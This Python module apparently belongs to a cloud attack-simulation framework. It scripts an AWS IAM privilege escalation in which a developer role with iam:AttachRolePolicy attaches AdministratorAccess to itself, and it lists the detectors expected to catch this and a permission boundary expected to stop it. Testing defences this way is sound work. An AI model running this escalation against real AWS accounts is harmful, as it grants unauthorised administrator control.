"""Attach AdministratorAccess to one's own role, which may attach policies and little else."""

from bastide.attack.stage import ADMINISTRATOR, Stage
from bastide.attack.technique import Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="A developer makes itself an administrator",
    mitre=("T1098.003",),
    tactic="privilege-escalation",
    detectors=("GuardDuty PrivilegeEscalation:IAMUser/AnomalousBehavior", "Security Hub IAM.1"),
    expected=Prevented("permission-boundary"),
    source="IAM API Reference, AttachRolePolicy",
)


def prepare(stage: Stage) -> Scene:
    """A developer's role that may attach policies to roles."""
    return {"role": stage.role("developer", allows=["iam:AttachRolePolicy", "iam:ListAttachedRolePolicies"])}


def attack(stage: Stage, scene: Scene) -> None:
    """Attach it to oneself."""
    developer = stage.entered(scene["role"])
    developer.client("iam").attach_role_policy(RoleName=scene["role"].rpartition("/")[2], PolicyArn=ADMINISTRATOR)


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The role has the policy."""
    name = scene["role"].rpartition("/")[2]
    found = stage.owner().client("iam").list_attached_role_policies(RoleName=name)["AttachedPolicies"]
    return ADMINISTRATOR in [one["PolicyArn"] for one in found]


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the role."""
    stage.drop_role(scene["role"])
